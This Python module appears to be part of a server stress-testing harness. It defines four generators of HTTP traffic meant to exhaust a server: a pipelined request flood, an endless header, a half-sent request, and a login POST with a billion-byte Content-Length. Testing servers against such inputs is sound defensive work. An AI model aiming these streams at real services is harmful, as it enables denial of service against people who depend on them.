"""Ways to have a server keep what it should not; each is a function from an address to the bytes to send."""

from collections.abc import Callable, Iterator
from itertools import repeat

PIECE = 64 * 1024

Attack = Callable[[str], Iterator[bytes]]
"""Given host and port: what to send on one connection, piece by piece, for ever."""


def pipelined(host: str) -> Iterator[bytes]:
    """Request after request, without waiting for an answer."""
    request = f"GET /x HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    return repeat(request * (PIECE // len(request)))


def endless_header(host: str) -> Iterator[bytes]:
    """A request whose header does not end."""
    yield f"GET / HTTP/1.1\r\nHost: {host}\r\nX-Long: ".encode()
    yield from repeat(b"x" * PIECE)


def half_sent(host: str) -> Iterator[bytes]:
    """The beginning of a request, and nothing more."""
    yield f"GET / HTTP/1.1\r\nHost: {host}\r\n".encode()


def body_without_end(host: str) -> Iterator[bytes]:
    """A body of the length that was promised, which is far too long."""
    yield f"POST /api/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n".encode()
    yield b"Content-Length: 1000000000\r\n\r\n"
    yield from repeat(b" " * PIECE)


ATTACKS: dict[str, Attack] = {
    one.__name__: one for one in (pipelined, endless_header, half_sent, body_without_end)
}
